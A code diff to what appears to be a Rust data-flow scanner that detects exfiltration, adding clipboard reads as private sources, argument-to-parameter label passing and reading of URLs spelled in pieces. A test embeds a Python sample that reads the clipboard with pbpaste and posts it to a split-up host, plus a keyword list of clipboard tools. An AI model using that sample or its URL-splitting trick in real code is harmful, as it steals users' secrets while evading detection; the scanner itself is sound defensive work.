@@ -134,6 +134,8 @@ struct Facts<'t> {
     returns: Vec<(String, Node<'t>)>,
     /// String constants by variable (`URL = "https://…"`).
     strings: HashMap<String, String>,
+    /// Each function's parameters, in order, so a call passes its arguments' labels on.
+    params: HashMap<String, Vec<String>>,
 }
 
 fn text<'a>(n: Node, src: &'a str) -> &'a str {
@@ -219,6 +221,19 @@ fn gather<'t>(n: Node<'t>, src: &str, facts: &mut Facts<'t>, func: Option<&str>,
         | "method_definition"
         | "generator_function_declaration" => {
             func_here = function_name(n, src);
+            if let (Some(f), Some(ps)) = (&func_here, n.child_by_field_name("parameters")) {
+                let mut names = Vec::new();
+                let mut c = ps.walk();
+                for p in ps.named_children(&mut c) {
+                    // `x`, `x=1`, `x: int`, `(x, y)` in JS: the first identifier of each.
+                    let mut ids = Vec::new();
+                    identifiers(p, src, &mut ids, 0);
+                    if let Some(first) = ids.into_iter().next() {
+                        names.push(first);
+                    }
+                }
+                facts.params.insert(f.clone(), names);
+            }
         }
         "return_statement" => {
             if let (Some(f), Some(v)) = (func, n.named_child(0)) {
@@ -278,6 +293,16 @@ fn string_value(n: Node, src: &str) -> Option<String> {
                 .trim_matches(|c| c == '"' || c == '\'' || c == '`')
                 .to_string(),
         ),
+        // `"https://" + "clip" + "-sync.io"`: a constant spelled in pieces.
+        "binary_operator" | "binary_expression"
+            if n.child_by_field_name("operator")
+                .is_some_and(|o| text(o, src) == "+") =>
+        {
+            let l = string_value(n.child_by_field_name("left")?, src)?;
+            let r = string_value(n.child_by_field_name("right")?, src)?;
+            Some(l + &r)
+        }
+        "parenthesized_expression" => string_value(n.named_child(0)?, src),
         _ => None,
     }
 }
@@ -409,6 +434,13 @@ fn own_labels(t: &str, lang: Lang) -> HashSet<Label> {
             "CHATHISTORY",
             "SESSION_LOG",
             "SESSIONLOG",
+            // What is on the clipboard (passwords, keys) is as private.
+            "PBPASTE",
+            "GET-CLIPBOARD",
+            "PYPERCLIP.PASTE",
+            "CLIPBOARD.READ",
+            "XCLIP",
+            "XSEL",
         ]
         .iter()
         .any(|w| u.contains(w))
@@ -628,6 +660,40 @@ fn solve(facts: &Facts, src: &str, lang: Lang) -> HashMap<String, HashSet<Label>
             }
             add(&mut labels, &format!("{f}()"), &set);
         }
+        // A call to a function of this program hands its arguments' labels to its
+        // parameters (`sync(clipboard)` labels `sync`'s `text`).
+        for call in &facts.calls {
+            let name = call.callee.rsplit('.').next().unwrap_or(&call.callee);
+            let Some(params) = facts.params.get(name) else {
+                continue;
+            };
+            let Some(args) = call.node.child_by_field_name("arguments") else {
+                continue;
+            };
+            let mut c = args.walk();
+            let positional: Vec<Node> = args
+                .named_children(&mut c)
+                .filter(|a| a.kind() != "keyword_argument" && a.kind() != "comment")
+                .collect();
+            // `self` takes no argument at a method call.
+            let skip = usize::from(
+                params.first().is_some_and(|p| p == "self" || p == "cls")
+                    && call.callee.contains('.'),
+            );
+            for (arg, param) in positional.iter().zip(params.iter().skip(skip)) {
+                let mut set = own_labels(text(*arg, src), lang);
+                let mut ids = Vec::new();
+                identifiers(*arg, src, &mut ids, 0);
+                for id in ids {
+                    set.extend(
+                        lookup(&labels, &call.func, &id)
+                            .cloned()
+                            .collect::<Vec<_>>(),
+                    );
+                }
+                add(&mut labels, &key(name, param), &set);
+            }
+        }
         if !changed {
             break;
         }
@@ -777,6 +843,9 @@ const SOURCES: &[&str] = &[
     "https.get",
     "got(",
     "conversation",
+    "pbpaste",
+    "clipboard",
+    "xclip",
     "transcript",
     "chat_history",
     "session_log",
@@ -903,6 +972,7 @@ pub fn scan(path: &str, src: &str, lang: Lang, line0: u32, shown: bool, out: &mu
         calls: Vec::new(),
         returns: Vec::new(),
         strings: HashMap::new(),
+        params: HashMap::new(),
     };
     gather(tree.root_node(), src, &mut facts, None, 0);
     let labels = solve(&facts, src, lang);
@@ -1518,6 +1588,30 @@ mod tests {
             judge(stray, Lang::Python)
                 .iter()
                 .any(|(_, s)| *s == Severity::Critical)
+        );
+    }
+
+    #[test]
+    fn arguments_reach_parameters_and_constants_spelled_in_pieces_are_read() {
+        // The clipboard handed to a helper that posts it to a host built from pieces.
+        let py = "import subprocess, urllib.request\nSYNC = 'https://' + 'clip' + '-sync.io' + '/v1'\n\ndef push(text):\n    urllib.request.urlopen(urllib.request.Request(SYNC, data=text.encode()))\n\ndef main():\n    t = subprocess.run(['pbpaste'], capture_output=True, text=True).stdout\n    push(t)\n";
+        let r = judge(py, Lang::Python);
+        assert!(
+            r.iter()
+                .any(|(id, s)| id == "exfiltration/conversation-out" && *s == Severity::High),
+            "{r:?}"
+        );
+        // The same helper given plain text is nothing.
+        let plain = py.replace(
+            "subprocess.run(['pbpaste'], capture_output=True, text=True).stdout",
+            "'hello'",
+        );
+        assert!(
+            judge(&plain, Lang::Python)
+                .iter()
+                .all(|(_, s)| *s < Severity::Medium),
+            "{:?}",
+            judge(&plain, Lang::Python)
         );
     }
 
